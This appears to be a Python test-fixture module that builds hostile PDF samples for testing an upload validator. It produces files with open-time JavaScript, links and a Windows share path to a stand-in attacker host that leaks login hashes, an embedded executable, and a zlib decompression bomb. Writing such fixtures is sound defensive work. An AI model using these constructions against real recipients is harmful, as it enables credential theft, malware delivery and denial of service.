"""PDFs made by the tests, by the library or byte by byte."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.promises.uploads.paper import EVIL

LINK = f"https://{EVIL.decode()}/"
SCRIPT = f"app.alert('{EVIL.decode()}')"
SHARE = f"\\\\{EVIL.decode()}\\share"
"""Opening it sends the name and the password's hash of a Windows login."""
CATALOG = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
PAGES = b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
PAGE = b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] >>\nendobj\n"


def unchanged(_: pikepdf.Pdf, _page: Any) -> None:
    """Leaves a PDF as it is."""


def pdf(change: Callable[[pikepdf.Pdf, Any], None] = unchanged, **how: Any) -> bytes:
    """Returns a PDF of one page with a line of text, changed."""
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(300, 400))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.obj.Resources = Dictionary(Font=Dictionary(A=font))
    page.obj.Contents = made.make_stream(b"BT /A 12 Tf 20 300 Td (Henvisning til fysioterapi) Tj ET")
    change(made, page.obj)
    file = BytesIO()
    made.save(file, **how)
    return file.getvalue()


def by_hand(*objects: bytes, catalog: bytes = CATALOG) -> bytes:
    """Returns a PDF without a table of its objects, which readers then find themselves."""
    trailer = b"trailer << /Root 1 0 R >>\n%%EOF\n"
    return b"%PDF-1.7\n" + catalog + PAGES + PAGE + b"".join(objects) + trailer


def action(kind: str, **more: Any) -> Dictionary:
    """Returns an action."""
    return Dictionary({"/S": Name(f"/{kind}"), **{f"/{name}": value for name, value in more.items()}})


def script() -> Dictionary:
    """Returns an action that runs code."""
    return action("JavaScript", JS=SCRIPT)


def opening(act: Dictionary) -> bytes:
    """Returns a PDF that acts when it is opened."""

    def change(made: pikepdf.Pdf, _: Any) -> None:
        made.Root.OpenAction = act

    return pdf(change)


def clicking(act: Dictionary) -> bytes:
    """Returns a PDF that acts when its page is clicked."""
    return noting(Subtype=Name.Link, A=act)


def noting(**note: Any) -> bytes:
    """Returns a PDF with a note over its page."""

    def change(made: pikepdf.Pdf, page: Any) -> None:
        place = Dictionary({f"/{name}": value for name, value in note.items()})
        place.Type, place.Rect = Name.Annot, Array([0, 0, 300, 400])
        page.Annots = Array([made.make_indirect(place)])

    return pdf(change)


def attached(made: pikepdf.Pdf) -> Dictionary:
    """Returns the description of a file inside a PDF."""
    file = made.make_stream(b"MZ " + EVIL)
    return Dictionary(Type=Name.Filespec, F="x.exe", UF="x.exe", EF=Dictionary(F=file))


def having(**entries: Any) -> bytes:
    """Returns a PDF with more entries in its root; a callable makes one of the document."""

    def change(made: pikepdf.Pdf, _: Any) -> None:
        for name, value in entries.items():
            made.Root[f"/{name}"] = value(made) if callable(value) else value

    return pdf(change)


def page_having(**entries: Any) -> bytes:
    """Returns a PDF with more entries in its page; a callable makes one of the document."""

    def change(made: pikepdf.Pdf, page: Any) -> None:
        for name, value in entries.items():
            page[f"/{name}"] = value(made) if callable(value) else value

    return pdf(change)


def locked(user: str, owner: str = "owner") -> bytes:
    """Returns a PDF with a password to open it, or only one to change it."""
    return pdf(encryption=pikepdf.Encryption(user=user, owner=owner))


def packed_objects(content: bytes, kind: bytes = b"/ObjStm", filters: bytes = b"/FlateDecode") -> bytes:
    """Returns a stream that holds the root of a PDF as object 1, packed."""
    inner = b"1 0 " + content
    packed = zlib.compress(inner)
    if b"[" in filters:
        packed = packed.hex().encode() + b">"
    head = b"4 0 obj\n<< /Type " + kind + b" /N 1 /First 4 /Filter " + filters
    return head + b" /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream\nendobj\n"


def with_packed_root(stream: bytes) -> bytes:
    """Returns a PDF whose root is in a packed stream of objects."""
    body, places = b"%PDF-1.7\n", {}
    for number, part in ((2, PAGES), (3, PAGE), (4, stream)):
        places[number] = len(body)
        body += part
    rows = b"\x00\x00\x00\x00" + b"\x02\x00\x04\x00"
    for number in (2, 3, 4):
        rows += b"\x01" + places[number].to_bytes(2, "big") + b"\x00"
    start = len(body)
    rows += b"\x01" + start.to_bytes(2, "big") + b"\x00"
    table = b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R /Length %d >>\n" % len(rows)
    return body + table + b"stream\n" + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def bomb(megabytes: int, times: int = 1) -> bytes:
    """Returns zeros, packed as often as named."""
    packing = zlib.compressobj(9)
    packed = b"".join(packing.compress(bytes(1024 * 1024)) for _ in range(megabytes)) + packing.flush()
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed


def drawing(content: bytes, filters: Any) -> bytes:
    """Returns a PDF whose page draws what a packed stream says."""

    def change(made: pikepdf.Pdf, page: Any) -> None:
        stream = pikepdf.Stream(made, b"")
        stream.write(content, filter=filters)
        page.Contents = made.make_indirect(stream)

    none = pikepdf.StreamDecodeLevel.none
    return pdf(change, stream_decode_level=none, compress_streams=False)
